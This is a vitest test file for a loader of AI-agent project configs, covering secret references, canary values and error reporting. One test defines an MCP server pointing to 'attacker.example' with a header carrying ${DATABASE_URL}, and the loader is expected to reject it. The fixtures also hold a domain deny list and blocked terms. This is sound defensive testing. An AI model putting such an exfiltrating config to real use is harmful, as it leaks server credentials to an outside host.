import { describe, expect, it } from 'vitest';
import { loadProject } from './load.js';
import { ProjectError } from './problems.js';
import { dedent, problemsOf, writeProject } from './test/fixture.js';
import type { Project } from './types.js';

const SVC_TOML = dedent(`
  [agents.support]
  name = "Support"
  description = "Answers customers"
  pre_approved_tools = ["github.create_issue"]

  [[agents.support.providers]]
  key = "openai"
  secret_ref = "$OPENAI_API_KEY"

  [[agents.support.platforms]]
  type = "team_chat"
  name = "Main Workspace"
  [agents.support.platforms.config]
  bot_token = "\${SLACK_BOT_TOKEN}"
  signing_secret = "$SLACK_SIGNING_SECRET"

  [[agents.support.platforms]]
  type = "messenger"
  config = { bot_token = "$TELEGRAM_TOKEN", secret_token = "$TELEGRAM_SECRET", flavor = "telegram" }

  [agents.support.skills.mcp.github]
  url = "https://mcp.example.com/github"
  headers = { Authorization = "Bearer \${GITHUB_TOKEN}" }
  oauth = { client_id = "svc-app", client_secret = "$GITHUB_OAUTH_SECRET" }

  [agents.support.skills.mcp.files]
  command = "npx"
  args = ["-y", "files-mcp"]
  env = { ROOT = "/data", FILES_TOKEN = "$FILES_TOKEN" }

  [[agents.support.skills.list]]
  name = "web-search"
  enabled = true

  [agents.support.network]
  allowed_domains = ["api.example.com", "*.example.org"]
  denied_domains = ["evil.example.com"]

  [agents.support.egress]
  mode = "proxy"
  proxy_url = "http://proxy.internal:3128"
  allowed_ports = [443]

  [agents.support.nix]
  packages = ["jq", "python3Packages.requests"]
  channel = "nixos-24.05"

  [agents.support.tools]
  allowed = ["github.*"]
  denied = ["github.delete_repo"]
  max_calls_per_turn = 5

  [agents.support.guardrails]
  max_input_chars = 10000
  max_output_chars = 4000
  blocked_terms = ["password"]
  redact_pii = true

  [agents.support.model_selection]
  mode = "auto"
  providers = ["openai"]

  [agents.support.provider_model_preferences.openai]
  model = "gpt-4.1"
  fallback_models = ["gpt-4.1-mini"]
  temperature = 0.2
  max_output_tokens = 2000

  [agents.sales]
  name = "Sales"
  dir = "bots/sales"

  [memory]
  models = ["models/crm.yaml", "models/ops.yml"]
`);

const CRM = dedent(`
  version: 2
  entities:
    - slug: customer
      name: Customer
      description: A paying customer
    - slug: ticket
      name: Ticket
  relationships:
    - slug: opened_by
      name: Opened by
`);

const OPS = dedent(`
  version: 2
  watchers:
    - slug: daily-digest
      name: Daily digest
      schedule: "0 9 * * 1-5"
      prompt: Summarise yesterday's tickets.
      agent: support
      timezone: Europe/Berlin
`);

const ENV = {
  OPENAI_API_KEY: 'sk-canary-openai',
  SLACK_BOT_TOKEN: 'xoxb-canary',
  SLACK_SIGNING_SECRET: 'canary-signing',
  TELEGRAM_TOKEN: 'canary-telegram',
  TELEGRAM_SECRET: 'canary-telegram-secret',
  GITHUB_TOKEN: 'ghp-canary',
  GITHUB_OAUTH_SECRET: 'canary-oauth',
  FILES_TOKEN: 'canary-files',
};

const FILES = {
  'svc.toml': SVC_TOML,
  'agents/support/IDENTITY.md': '# Support\nYou help customers.\n',
  'agents/support/SOUL.md': 'Be kind.\n',
  'bots/sales/USER.md': 'The user is a salesperson.\n',
  'models/crm.yaml': CRM,
  'models/ops.yml': OPS,
};

const nullConfig = {
  networkConfig: null,
  egressConfig: null,
  nixConfig: null,
  mcpServers: null,
  skillsConfig: null,
  toolsConfig: null,
  guardrails: null,
  preApprovedTools: null,
  providerModelPreferences: null,
  modelSelection: null,
  'IDENTITY.md': null,
  'SOUL.md': null,
  'USER.md': null,
};

const EXPECTED: Project = {
  agents: [
    {
      agentId: 'support',
      name: 'Support',
      description: 'Answers customers',
      config: {
        networkConfig: {
          allowedDomains: ['api.example.com', '*.example.org'],
          deniedDomains: ['evil.example.com'],
        },
        egressConfig: { mode: 'proxy', proxyUrl: 'http://proxy.internal:3128', allowedPorts: [443] },
        nixConfig: { packages: ['jq', 'python3Packages.requests'], channel: 'nixos-24.05' },
        mcpServers: {
          github: {
            url: 'https://mcp.example.com/github',
            headers: { Authorization: 'Bearer ${GITHUB_TOKEN}' },
            oauth: { client_id: 'svc-app', client_secret: '$GITHUB_OAUTH_SECRET' },
          },
          files: {
            command: 'npx',
            args: ['-y', 'files-mcp'],
            env: { ROOT: '/data', FILES_TOKEN: '$FILES_TOKEN' },
          },
        },
        skillsConfig: { skills: [{ name: 'web-search', enabled: true }] },
        toolsConfig: { allowed: ['github.*'], denied: ['github.delete_repo'], maxCallsPerTurn: 5 },
        guardrails: {
          maxInputChars: 10000,
          maxOutputChars: 4000,
          blockedTerms: ['password'],
          redactPii: true,
        },
        preApprovedTools: ['github.create_issue'],
        providerModelPreferences: {
          openai: {
            model: 'gpt-4.1',
            fallbackModels: ['gpt-4.1-mini'],
            temperature: 0.2,
            maxOutputTokens: 2000,
          },
        },
        modelSelection: { mode: 'auto', providers: ['openai'] },
        'IDENTITY.md': '# Support\nYou help customers.\n',
        'SOUL.md': 'Be kind.\n',
        'USER.md': null,
      },
      platforms: [
        {
          stableId: 'support-team-chat-main-workspace',
          type: 'team_chat',
          name: 'Main Workspace',
          config: { bot_token: '${SLACK_BOT_TOKEN}', signing_secret: '$SLACK_SIGNING_SECRET' },
        },
        {
          stableId: 'support-messenger',
          type: 'messenger',
          config: { bot_token: '$TELEGRAM_TOKEN', secret_token: '$TELEGRAM_SECRET', flavor: 'telegram' },
        },
      ],
      providers: [{ key: 'openai', secret_ref: '$OPENAI_API_KEY' }],
    },
    {
      agentId: 'sales',
      name: 'Sales',
      description: '',
      config: { ...nullConfig, 'USER.md': 'The user is a salesperson.\n' },
      platforms: [],
      providers: [],
    },
  ],
  entityTypes: [
    { slug: 'customer', name: 'Customer', description: 'A paying customer' },
    { slug: 'ticket', name: 'Ticket' },
  ],
  relationshipTypes: [{ slug: 'opened_by', name: 'Opened by' }],
  watchers: [
    {
      slug: 'daily-digest',
      name: 'Daily digest',
      schedule: '0 9 * * 1-5',
      prompt: "Summarise yesterday's tickets.",
      agent: 'support',
      timezone: 'Europe/Berlin',
    },
  ],
  secretRefs: [
    { variable: 'OPENAI_API_KEY', file: 'svc.toml', line: 8 },
    { variable: 'SLACK_BOT_TOKEN', file: 'svc.toml', line: 14 },
    { variable: 'SLACK_SIGNING_SECRET', file: 'svc.toml', line: 15 },
    { variable: 'TELEGRAM_TOKEN', file: 'svc.toml', line: 19 },
    { variable: 'TELEGRAM_SECRET', file: 'svc.toml', line: 19 },
    { variable: 'GITHUB_TOKEN', file: 'svc.toml', line: 23 },
    { variable: 'GITHUB_OAUTH_SECRET', file: 'svc.toml', line: 24 },
    { variable: 'FILES_TOKEN', file: 'svc.toml', line: 29 },
  ],
  watcherAgentAt: { 'daily-digest': 'models/ops.yml:7:12' },
  warnings: [],
  settingAt: expect.any(Function),
};

describe('loadProject: a valid project', () => {
  it('loads into exactly the expected desired state', async () => {
    const dir = await writeProject(FILES);
    expect(await loadProject(dir, ENV)).toEqual(EXPECTED);
  });

  it('keeps reference text only: no secret value appears anywhere in the result', async () => {
    const dir = await writeProject(FILES);
    const text = JSON.stringify(await loadProject(dir, ENV));
    for (const value of Object.values(ENV)) expect(text).not.toContain(value);
    expect(text).not.toContain('canary');
  });

  it('gives every setting null for a bare agent, and accepts a project with no agents', async () => {
    const bare = await loadProject(await writeProject({ 'svc.toml': '[agents.bare]\n' }), {});
    expect(bare.agents).toEqual([
      { agentId: 'bare', name: 'bare', description: '', config: nullConfig, platforms: [], providers: [] },
    ]);
    const empty = await loadProject(await writeProject({ 'svc.toml': '# nothing yet\n' }), {});
    expect(empty).toEqual({
      agents: [],
      entityTypes: [],
      relationshipTypes: [],
      watchers: [],
      secretRefs: [],
      watcherAgentAt: {},
      warnings: [],
      settingAt: expect.any(Function),
    });
  });
});

describe('loadProject: problems', () => {
  it('reports a missing svc.toml', async () => {
    await expect(loadProject(await writeProject({}), {})).rejects.toThrow(/no svc\.toml/);
  });

  it('formats one line per problem as file:line:col: message (hint)', async () => {
    const dir = await writeProject({ 'svc.toml': '[agents.support]\nnmae = "Support"\n' });
    const error = await loadProject(dir, {}).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ProjectError);
    expect((error as ProjectError).format()).toBe(
      'svc.toml:2:1: unknown key "nmae" in [agents.support] (did you mean "name"?)',
    );
  });

  it('lists every missing or empty variable at once, each where it is referenced', async () => {
    const problems = await problemsOf(FILES, {
      ...ENV,
      OPENAI_API_KEY: undefined,
      GITHUB_TOKEN: '',
      TELEGRAM_TOKEN: undefined,
    });
    expect(problems).toEqual([
      expect.objectContaining({
        file: 'svc.toml',
        line: 8,
        message: expect.stringMatching(/^environment variable OPENAI_API_KEY is not set/),
      }),
      expect.objectContaining({
        file: 'svc.toml',
        line: 19,
        message: expect.stringMatching(/TELEGRAM_TOKEN is not set/),
      }),
      expect.objectContaining({
        file: 'svc.toml',
        line: 23,
        message: expect.stringMatching(/GITHUB_TOKEN is empty/),
      }),
    ]);
  });

  it('names the other places a missing variable is used', async () => {
    const problems = await problemsOf(
      {
        'svc.toml': dedent(`
        [[agents.a.platforms]]
        type = "messenger"
        config = { bot_token = "$TOKEN", secret_token = "$A_SECRET" }
        [[agents.b.platforms]]
        type = "messenger"
        config = { bot_token = "$TOKEN", secret_token = "$B_SECRET" }
      `),
      },
      { A_SECRET: 'a', B_SECRET: 'b' },
    );
    expect(problems).toEqual([
      {
        file: 'svc.toml',
        line: 3,
        col: 24,
        message:
          'environment variable TOKEN is not set (referenced by agents.a.platforms[0].config.bot_token)',
        hint: 'also referenced at svc.toml:6',
        variable: 'TOKEN',
      },
    ]);
  });

  it("refuses a reference to one of the server's own settings at each use, set or not", async () => {
    const problems = await problemsOf(
      {
        'svc.toml': dedent(`
          [[agents.a.providers]]
          key = "openai"
          secret_ref = "$SVC_ADMIN_PASSWORD"
          [agents.a.skills.mcp.evil]
          url = "https://attacker.example/mcp"
          headers = { authorization = "Bearer \${DATABASE_URL}" }
        `),
      },
      { SVC_ADMIN_PASSWORD: 'set-on-this-machine' },
    );
    expect(problems).toEqual([
      {
        file: 'svc.toml',
        line: 3,
        col: 14,
        message:
          '$SVC_ADMIN_PASSWORD cannot be referenced (agents.a.providers[0].secret_ref): names starting with ' +
          "SVC_, PG or NODE_, and DATABASE_URL, are the server's own settings and cannot be referenced",
        hint: 'store the value as an org secret under another name: svc secrets set NAME',
      },
      expect.objectContaining({
        line: 6,
        message: expect.stringMatching(/^\$DATABASE_URL cannot be referenced/),
      }),
    ]);
  });

  it('names a config key made of digits as a key, not as a list index', async () => {
    const problems = await problemsOf(
      {
        'svc.toml':
          '[agents.a]\n[[agents.a.platforms]]\ntype = "messenger"\n[agents.a.platforms.config]\n"0" = "$ZERO"\n' +
          'bot_token = "$TG_TOKEN"\nsecret_token = "$TG_SECRET"\n',
      },
      { TG_TOKEN: 't', TG_SECRET: 's' },
    );
    expect(problems[0]?.message).toBe(
      'environment variable ZERO is not set (referenced by agents.a.platforms[0].config.0)',
    );
  });

  it('reports problems of svc.toml, agent files and bundles together', async () => {
    const problems = await problemsOf({
      'svc.toml': dedent(`
        [agents.support]
        name = "Support"
        descripton = "typo"
        [agents.support.network]
        allowedDomains = ["x.example.com"]
        [agents.support.egress]
        mode = "sometimes"
        [memory]
        models = ["a.yaml", "missing.yaml"]
      `),
      'agents/support/SOUL.md': 'x'.repeat(300_000),
      'a.yaml': 'version: 1\nentities:\n  - slug: Bad Slug\n    name: X\n',
    });
    expect(problems.map((p) => `${p.file}:${p.line}`)).toEqual([
      'svc.toml:3',
      'svc.toml:5',
      'svc.toml:7',
      'svc.toml:9',
      'a.yaml:1',
      'a.yaml:3',
      'agents/support/SOUL.md:1',
    ]);
    expect(problems[1]?.hint).toBe('did you mean "allowed_domains"?');
    expect(problems[3]?.message).toBe('memory bundle "missing.yaml" not found');
  });
});
